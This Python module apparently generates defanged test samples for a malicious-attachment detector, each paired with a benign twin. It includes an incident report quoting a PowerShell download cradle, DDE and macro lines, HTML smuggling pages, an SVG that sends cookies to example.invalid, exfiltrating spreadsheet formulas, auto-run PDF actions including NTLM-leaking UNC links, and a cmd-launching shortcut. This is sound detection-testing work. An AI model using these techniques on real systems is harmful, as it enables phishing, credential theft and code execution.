"""Attacks that need no exploit, each family with a benign twin: prose that only talks about attacks,
HTML smuggling and redirects, scripted SVG, spreadsheet formula injection, PDF actions that run on
open, script files and a Windows shortcut.

Nothing here is malware and none of it carries EICAR: commands start `calc` or print "harmless test
payload", and every address is under example.invalid (or example.com for the benign twins).
Output is deterministic.
"""
import base64
import csv
import io
import struct
import zlib
from xml.sax.saxutils import escape

from generate import zip_bytes
from office_samples import clsid, docx, paragraph
from pdf_samples import PAGES, assemble, one_page_pdf, page, stream

HARMLESS = b"harmless test payload\n"

# ---------------------------------------------------------------------------------------------
# A security team's incident report: it quotes attack strings, yet it is a clean document.

# UTF-16LE base64, as `powershell -enc` takes it; decodes to a harmless echo (48 characters).
ENCODED_COMMAND = base64.b64encode("echo harmless test".encode("utf-16-le")).decode()

# (kind, text): text lines are broken by hand so that no quoted attack string spans two lines.
REPORT = [
    ("title", "Incident report IR-2024-031: invoice-themed phishing, 4 to 8 March 2024"),
    ("heading", "Summary"),
    ("text", "Between 4 and 8 March the mail gateway quarantined 214 messages posing as overdue\n"
             "invoices from a logistics supplier. No user opened an attachment and no host was\n"
             "compromised. This report records what the attachments tried, so that the help desk\n"
             "recognises the next wave. Commands are quoted from the samples; every address has\n"
             "been replaced with one under example.invalid."),
    ("heading", "Word documents"),
    ("text", "Some .docx files carried a DDE field instead of a macro. Its field code read:"),
    ("code", r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'),
    ("text", "Older .doc files carried a VBA macro that runs as soon as the document opens:"),
    ("code", 'Sub AutoOpen()\n    Shell "calc"\nEnd Sub'),
    ("text", "A second macro variant called URLDownloadToFile from urlmon.dll to fetch a second\n"
             "stage into the user's temporary folder before running it."),
    ("heading", "PowerShell and living off the land"),
    ("text", "The second stage was a PowerShell download cradle:"),
    ("code", "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
             ".DownloadString('http://example.invalid/a.ps1')\""),
    ("text", "Later messages hid the command as base64 of UTF-16LE text; in our lab copy it decodes\n"
             "to a harmless echo:"),
    ("code", "powershell -enc " + ENCODED_COMMAND),
    ("text", "Other messages used mshta and certutil, which every Windows host already has:"),
    ("code", "mshta http://example.invalid/x.hta\ncertutil -decode invoice.txt invoice.exe"),
    ("heading", "HTML, spreadsheets and PDF"),
    ("bullet", "HTML smuggling: an .html attachment called atob() on an embedded string, wrapped\n"
               "the bytes in new Blob([...]), set a.download = 'invoice.zip' on a link and clicked\n"
               "it; for old Edge it called msSaveOrOpenBlob instead."),
    ("bullet", "CSV formula injection: an exported contact list held the cell =cmd|' /C calc'!A0,\n"
               "which Excel offers to start through DDE."),
    ("bullet", "PDF: the catalog opened a fake login page as soon as the file was opened, with"),
    ("code", "/OpenAction << /S /URI /URI (https://login.example.invalid/invoice) >>"),
    ("heading", "Recommendations"),
    ("bullet", "Keep macros blocked for files that come from the internet."),
    ("bullet", "Block .html, .hta, .js, .vbs and .lnk attachments at the gateway."),
    ("bullet", "Report look-alike invoices with the Report button in the mail client."),
]


def report_text_lines():
    """The report as plain text lines: the .txt file, the PDF's lines, the .docx paragraphs."""
    lines = []
    for kind, text in REPORT:
        if kind == "code":
            lines += ["    " + line for line in text.splitlines()]
        elif kind == "bullet":
            first, *rest = text.splitlines()
            lines += ["- " + first] + ["  " + line for line in rest]
        else:
            lines += text.splitlines()
        lines.append("")
    return lines


def report_markdown():
    lines = []
    for kind, text in REPORT:
        if kind == "title":
            lines.append("# " + text)
        elif kind == "heading":
            lines.append("## " + text)
        elif kind == "code":
            lines += ["```"] + text.splitlines() + ["```"]
        elif kind == "bullet":
            first, *rest = text.splitlines()
            lines += ["- " + first] + ["  " + line for line in rest]
        else:
            lines += text.splitlines()
        lines.append("")
    return "\n".join(lines).encode()


def pdf_string(text):
    """A PDF literal string: backslashes and parentheses escaped (PDF 1.7 section 7.3.4.2)."""
    return b"(" + text.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


# Helvetica's built-in encoding shows ' (0x27) as a curly quote; WinAnsiEncoding keeps it ASCII.
WIN_ANSI_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def text_pdf(lines):
    """One page showing `lines` with Tj, one line apart (T*); the content stream is Flate-compressed,
    as most PDF writers leave it, so the text is only readable once decoded."""
    content = b"BT /F1 9 Tf 12 TL 54 756 Td\n"
    for line in lines:
        content += (pdf_string(line) + b" Tj T*\n") if line else b"T*\n"
    content += b"ET"
    return assemble([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, page(),
                     stream(b"/Filter /FlateDecode", zlib.compress(content, 9)), WIN_ANSI_FONT])


def prose_samples():
    lines = report_text_lines()
    return {
        "benign/prose/incident_report.txt": "\n".join(lines).encode(),
        "benign/prose/incident_report.md": report_markdown(),
        "benign/prose/incident_report.pdf": text_pdf(lines),
        "benign/prose/incident_report.docx": docx("".join(paragraph(escape(line)) for line in lines if line)),
    }


# ---------------------------------------------------------------------------------------------
# HTML and SVG attachments: the browser is the interpreter.

def smuggling_page(payload, save):
    """HTML smuggling: the attachment carries `payload` as base64 and has the browser rebuild and
    save it, so the gateway never sees the file itself. `save` is the script that saves `blob`."""
    return ("<!DOCTYPE html>\n"
            "<html><head><meta charset=\"utf-8\"><title>Invoice 2024-117</title></head>\n"
            "<body>\n"
            "<p>Your invoice is being downloaded. If nothing happens, reload this page.</p>\n"
            "<script>\n"
            "var data = atob('" + base64.b64encode(payload).decode() + "');\n"
            "var bytes = new Uint8Array(data.length);\n"
            "for (var i = 0; i < data.length; i++) {\n"
            "  bytes[i] = data.charCodeAt(i);\n"
            "}\n"
            "var blob = new Blob([bytes], {type: 'application/octet-stream'});\n"
            + save +
            "</script>\n"
            "</body></html>\n").encode()


ANCHOR_DOWNLOAD = ("var a = document.createElement('a');\n"
                   "a.href = URL.createObjectURL(blob);\n"
                   "a.download = 'invoice.zip';\n"
                   "document.body.appendChild(a);\n"
                   "a.click();\n")

# Internet Explorer and old Edge have no a.download; they save through this instead.
MS_SAVE = "window.navigator.msSaveOrOpenBlob(blob, 'invoice.iso');\n"

AUTO_REDIRECT_HTML = b"""<!DOCTYPE html>
<html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=https://login.example.invalid/owa/">
<title>Outlook Web Access</title></head>
<body>
<p>Your session has expired. Redirecting to the sign-in page...</p>
<script>window.location.replace('https://login.example.invalid/owa/')</script>
</body></html>
"""

# The twin: an inline script that only does arithmetic on the page, and links that need a click.
REPORT_HTML = b"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Travel expenses, March</title></head>
<body>
<h1>Travel expenses, March</h1>
<table border="1">
<tr><th>Item</th><th>Amount (EUR)</th></tr>
<tr><td>Train to Hamburg</td><td class="amount">89.90</td></tr>
<tr><td>Hotel, two nights</td><td class="amount">238.00</td></tr>
<tr><td>Meals</td><td class="amount">61.40</td></tr>
</table>
<p>Total: <span id="total"></span> EUR</p>
<p>See the <a href="https://example.com/policy/travel">travel policy</a> and the
<a href="https://example.com/forms/expenses">expense form</a>.</p>
<script>
var cells = document.querySelectorAll('td.amount');
var total = 0;
for (var i = 0; i < cells.length; i++) {
  total += parseFloat(cells[i].textContent);
}
document.getElementById('total').textContent = total.toFixed(2);
</script>
</body></html>
"""

SCRIPT_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="240" height="80" viewBox="0 0 240 80">
<rect x="0" y="0" width="240" height="80" fill="#f0f0f0"/>
<text x="20" y="45" font-family="sans-serif" font-size="16">Loading invoice...</text>
<script type="text/javascript"><![CDATA[
window.location = 'https://login.example.invalid/';
]]></script>
</svg>
"""

ONLOAD_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="240" height="80" viewBox="0 0 240 80" \
onload="fetch('https://example.invalid/c?'+document.cookie)">
<rect x="0" y="0" width="240" height="80" fill="#f0f0f0"/>
<text x="20" y="45" font-family="sans-serif" font-size="16">Scanned document</text>
</svg>
"""

LOGO_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="60" viewBox="0 0 200 60">
<title>Example Logistics logo</title>
<rect x="2" y="2" width="56" height="56" rx="8" fill="#1f5f99"/>
<circle cx="30" cy="30" r="14" fill="#ffffff"/>
<path d="M22 30 L30 22 L38 30 L30 38 Z" fill="#1f5f99"/>
<text x="68" y="38" font-family="sans-serif" font-size="20" fill="#1f5f99">Example Logistics</text>
</svg>
"""


def web_samples():
    return {
        "threats/html/smuggling_blob.html": smuggling_page(zip_bytes([("readme.txt", HARMLESS)]), ANCHOR_DOWNLOAD),
        "threats/html/smuggling_mssave.html": smuggling_page(HARMLESS, MS_SAVE),
        "threats/html/auto_redirect.html": AUTO_REDIRECT_HTML,
        "benign/html/report.html": REPORT_HTML,
        "threats/svg/script.svg": SCRIPT_SVG,
        "threats/svg/onload.svg": ONLOAD_SVG,
        "benign/svg/logo.svg": LOGO_SVG,
    }


# ---------------------------------------------------------------------------------------------
# Formula injection: a cell starting with = + - @ is a formula to Excel, and some formulas run
# programs (DDE) or reach the network.

def csv_bytes(rows, quoting=csv.QUOTE_MINIMAL):
    """CSV as Excel writes it (RFC 4180): CRLF line ends, quotes doubled inside quoted cells."""
    out = io.StringIO()
    csv.writer(out, quoting=quoting, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


def tsv_bytes(rows):
    """Tab-separated values: no quoting, a cell is everything between two tabs."""
    return "".join("\t".join(row) + "\r\n" for row in rows).encode()


DDE = "cmd|' /C calc'!A0"

# CRM exports often quote every cell; Excel still reads a quoted =... as a formula.
DDE_CONTACTS = csv_bytes([
    ["Name", "Company", "Email", "Phone", "Notes"],
    ["Anna Example", "Example Logistics", "anna@example.com", "030 1234567", "Key account"],
    ["Ben Sample", "Sample Freight", "ben@example.com", "040 7654321", "=" + DDE],
    ["Carla Test", "Test Transport", "carla@example.com", "089 2468135", "Invoices by post"],
], quoting=csv.QUOTE_ALL)

WEBSERVICE_CSV = csv_bytes([
    ["Customer", "Account", "Balance", "Status"],
    ["Example Logistics", "EX-1001", "1520.00", '=WEBSERVICE("http://example.invalid/?d="&A2)'],
    ["Sample Freight", "SF-2002", "310.50", "@SUM(1+1)*" + DDE],
])

HYPERLINK_TSV = tsv_bytes([
    ["Invoice", "Amount", "Link"],
    ["2024-117", "1180.00", '=HYPERLINK("http://example.invalid/invoice.exe","Open invoice")'],
    ["2024-118", "640.00", '+IMPORTXML("http://example.invalid/x","//a")'],
])

# SYLK: Excel opens it like a spreadsheet; a cell's E field is a formula, here a DDE call.
DDE_SLK = b"ID;P\r\nC;X1;Y1;K\"Name\"\r\nC;X1;Y2;K0;ECMD|' /C calc'!A0\r\nE\r\n"

# The twins hold what a naive "first character is = + - @" check trips on: harmless arithmetic,
# a negative amount, an @ inside text, a phone number with its country code.
BUDGET_CSV = csv_bytes([
    ["Item", "Budget", "Spent", "Remaining", "Contact"],
    ["Travel", "5000", "3800", "=B2-C2", "Questions to finance@example.com"],
    ["Training", "3000", "4200", "=B3-C3", "Overspent by -1200, approved"],
    ["Hardware", "8000", "6500", "=B4-C4", ""],
    ["Correction", "-1200", "0", "=B5-C5", "Moved to next year"],
    ["Total", "=SUM(B2:B5)", "=SUM(C2:C5)", "=SUM(D2:D5)", ""],
])

CONTACTS_TSV = tsv_bytes([
    ["Name", "Phone", "City", "Balance"],
    ["Dana Example", "+44 20 7946 0000", "London", "-15.5"],
    ["Eli Sample", "030 1234567", "Berlin", "120.0"],
])


def formula_samples():
    return {
        "threats/csv/dde_cmd.csv": DDE_CONTACTS,
        "threats/csv/webservice.csv": WEBSERVICE_CSV,
        "threats/csv/hyperlink.tsv": HYPERLINK_TSV,
        "threats/csv/dde.slk": DDE_SLK,
        "benign/csv/budget.csv": BUDGET_CSV,
        "benign/csv/contacts.tsv": CONTACTS_TSV,
    }


# ---------------------------------------------------------------------------------------------
# PDF actions that run when the document or page opens, without JavaScript.

def submitform_pdf():
    """Opening the file posts its form (one text field) to a remote address."""
    field = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (email) /Rect [72 650 300 670] /P 3 0 R /F 4 "
             b"/DA (/F1 12 Tf 0 g) >>")
    return one_page_pdf(b" /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://example.invalid/collect) >> >>"
                        b" /AcroForm << /Fields [6 0 R] /DR << /Font << /F1 5 0 R >> >> >>",
                        page_extra=b" /Annots [6 0 R]", text=b"Please confirm your address", extra_objects=[field])


def gotor_pdf():
    """Opening the file opens another one on a UNC path: Windows sends the user's NTLM hash there."""
    target = pdf_string("\\\\fileserver.example.invalid\\share\\invoice.pdf")
    return one_page_pdf(b" /OpenAction << /S /GoToR /F " + target + b" /D [0 /Fit] >>")


def attachment_pdf(name, data):
    """An embedded file in the EmbeddedFiles name tree, and no action that opens it."""
    return one_page_pdf(b" /Names << /EmbeddedFiles << /Names [" + pdf_string(name) + b" 6 0 R] >> >>",
                        text=b"See the attached file", extra_objects=[
                            b"<< /Type /Filespec /F " + pdf_string(name) + b" /UF " + pdf_string(name)
                            + b" /EF << /F 7 0 R >> >>",
                            stream(b"/Type /EmbeddedFile /Params << /Size %d >>" % len(data), data)])


def pdf_action_samples():
    return {
        "threats/pdf/openaction_uri.pdf": one_page_pdf(
            b" /OpenAction << /S /URI /URI (https://login.example.invalid/invoice) >>"),
        "threats/pdf/page_aa_launch.pdf": one_page_pdf(page_extra=b" /AA << /O << /S /Launch /F (invoice.exe) >> >>"),
        "threats/pdf/openaction_submitform.pdf": submitform_pdf(),
        "threats/pdf/openaction_gotor.pdf": gotor_pdf(),
        "threats/pdf/script_attachment.pdf": attachment_pdf("invoice.js",
                                                            b'WScript.Echo("harmless test payload");\r\n'),
        "benign/pdf/attachment_notes.pdf": attachment_pdf("notes.txt", b"Meeting notes: budget approved.\n"),
        # A link runs only when clicked.
        "benign/pdf/link_annotation.pdf": one_page_pdf(
            page_extra=b" /Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] "
                       b"/A << /S /URI /URI (https://example.com/terms) >> >>]",
            text=b"Terms: https://example.com/terms"),
    }


# ---------------------------------------------------------------------------------------------
# Scripts that Windows runs on a double-click, and a shortcut that starts cmd.exe.

HTA = b"""<html><head><title>Update</title>
<HTA:APPLICATION ID="update" APPLICATIONNAME="Update" WINDOWSTATE="minimize"/>
<script language="VBScript">
Sub Window_OnLoad
    MsgBox "harmless test payload"
    window.close
End Sub
</script></head><body></body></html>
""".replace(b"\n", b"\r\n")

SHELL_LINK_CLSID = clsid("{00021401-0000-0000-C000-000000000046}")
HAS_NAME, HAS_RELATIVE_PATH, HAS_ARGUMENTS, IS_UNICODE = 0x04, 0x08, 0x20, 0x80
FILE_ATTRIBUTE_ARCHIVE = 0x20
SW_SHOWMINNOACTIVE = 7


def _link_string(text):
    """A StringData entry: CountCharacters (2 bytes), then that many UTF-16LE characters, no NUL."""
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def shell_link(name, relative_path, arguments):
    """A .lnk file ([MS-SHLLINK]): the 76-byte ShellLinkHeader (2.1), no LinkTargetIDList (2.2) and
    no LinkInfo (2.3), then StringData (2.4) in its fixed order NAME_STRING, RELATIVE_PATH,
    (WORKING_DIR,) COMMAND_LINE_ARGUMENTS, (ICON_LOCATION,) and the ExtraData TerminalBlock (2.5).
    Explorer shows `name` and a minimised window runs `relative_path arguments`."""
    header = struct.pack("<I16sIIQQQIiIHHII", 0x4C, SHELL_LINK_CLSID,
                         HAS_NAME | HAS_RELATIVE_PATH | HAS_ARGUMENTS | IS_UNICODE, FILE_ATTRIBUTE_ARCHIVE,
                         0, 0, 0, 0, 0, SW_SHOWMINNOACTIVE, 0, 0, 0, 0)
    assert len(header) == 0x4C
    return (header + _link_string(name) + _link_string(relative_path) + _link_string(arguments)
            + struct.pack("<I", 0))


def script_samples():
    return {
        "threats/scripts/invoice.js": b'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc");\r\n',
        "threats/scripts/scripts.zip": zip_bytes([
            ("invoice.vbs", b'CreateObject("WScript.Shell").Run "calc"\r\n'),
            ("update.hta", HTA),
            ("setup.ps1", b"Write-Output 'harmless test payload'\r\n"),
            ("run.bat", b"@echo off\r\necho harmless test payload\r\n"),
        ]),
        "threats/scripts/shortcut.zip": zip_bytes([
            ("invoice.pdf.lnk", shell_link("Invoice", "..\\..\\Windows\\System32\\cmd.exe", "/c calc")),
        ]),
        "benign/scripts/docs.zip": zip_bytes([
            ("readme.txt", b"Project documents for the March review.\n"),
            ("notes.md", b"# Notes\n\n- Budget approved\n- Next review in June\n"),
        ]),
    }


def samples():
    return {**prose_samples(), **web_samples(), **formula_samples(), **pdf_action_samples(), **script_samples()}
